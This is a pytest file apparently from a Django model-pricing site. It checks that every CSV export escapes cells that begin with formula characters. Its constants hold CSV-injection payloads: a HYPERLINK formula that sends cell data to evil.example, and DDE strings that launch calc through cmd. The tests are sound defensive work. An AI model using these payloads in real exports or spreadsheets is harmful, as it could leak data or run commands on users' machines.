"""Every CSV the site serves goes through the one writer (tokonomix/core/downloads.py), so a
name, key, error or model answer that starts like a formula (`=`, `+`, `-`, `@`, a tab or a
carriage return) is written as text a spreadsheet will not run. One test per export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from benchmarks.models import TestbenchResult as BenchResult
from benchmarks.models import TestbenchRun as BenchRun
from pricing.models import PricePoint
from tests import factories
from tests.benchmarks.conftest import recorded_run
from tokonomix.core.downloads import FORMULA_STARTS

pytestmark = pytest.mark.django_db

EXFILTRATE = '=HYPERLINK("https://evil.example/?d="&A2,"OpenAI")'
RUN_A_COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
HIDDEN_BEHIND_A_TAB = "\t=1+1"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def cells(response) -> list[str]:
    """Every cell of a CSV answer (streamed or not), after the header."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in rows[1:] for cell in row]


def assert_neutralised(response, *attacks: str) -> None:
    written = cells(response)
    for attack in attacks:
        assert "'" + attack in written, (attack, written)
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile_catalogue():
    """A published model whose maker, name, offering key and host carry formulas, priced
    twice (so it has a price change)."""
    provider = factories.provider(name=EXFILTRATE)
    model = factories.model(provider=provider, name=PLUS, slug="hostile")
    host = factories.host(slug=MINUS, name="Host")
    offering = factories.offering(model=model, host=host, source_key=RUN_A_COMMAND)
    model.reference_offering = offering
    model.save()
    for day, price in ((dt.date(2026, 1, 5), "2"), (dt.date(2026, 1, 12), "1")):
        PricePoint.objects.create(
            offering=offering,
            effective_from=day,
            input_per_million=Decimal(price),
            output_per_million=Decimal("4"),
        )
    return model


def test_the_leaderboard_csv_neutralises_names(client, hostile_catalogue):
    assert_neutralised(client.get("/en/leaderboard.csv"), EXFILTRATE, PLUS, RUN_A_COMMAND)


def test_the_api_price_csv_neutralises_offering_keys_and_hosts(client, hostile_catalogue):
    assert_neutralised(client.get("/api/v1/models/hostile/prices.csv"), RUN_A_COMMAND, MINUS)


def test_the_api_price_changes_csv_neutralises_offering_keys_and_hosts(client, hostile_catalogue):
    assert_neutralised(client.get("/api/v1/prices/changes.csv"), RUN_A_COMMAND, MINUS)


def test_the_api_speed_csv_neutralises_error_text(client, hostile_catalogue):
    recorded_run(
        hostile_catalogue,
        [
            {"started_at": timezone.now(), "latency_ms": 900.0},
            {"started_at": timezone.now(), "error": EXFILTRATE},
        ],
    )

    assert_neutralised(client.get("/api/v1/models/hostile/speed.csv"), EXFILTRATE)


def test_the_testbench_csv_neutralises_model_answers_and_errors(client, hostile_catalogue):
    run = BenchRun.objects.create(
        prompt="Say hello",
        max_output_tokens=10,
        status=BenchRun.Status.COMPLETED,
        started_at=timezone.now(),
        finished_at=timezone.now(),
    )
    BenchResult.objects.create(
        run=run,
        position=0,
        model=hostile_catalogue,
        api_model="hostile",
        status=BenchResult.Status.COMPLETED,
        answer=EXFILTRATE,
        error=HIDDEN_BEHIND_A_TAB,
        cost_usd=Decimal("0.001"),
    )

    response = client.get(reverse("benchmarks:testbench_csv", args=[run.public_id]))

    assert_neutralised(response, EXFILTRATE, HIDDEN_BEHIND_A_TAB, PLUS)
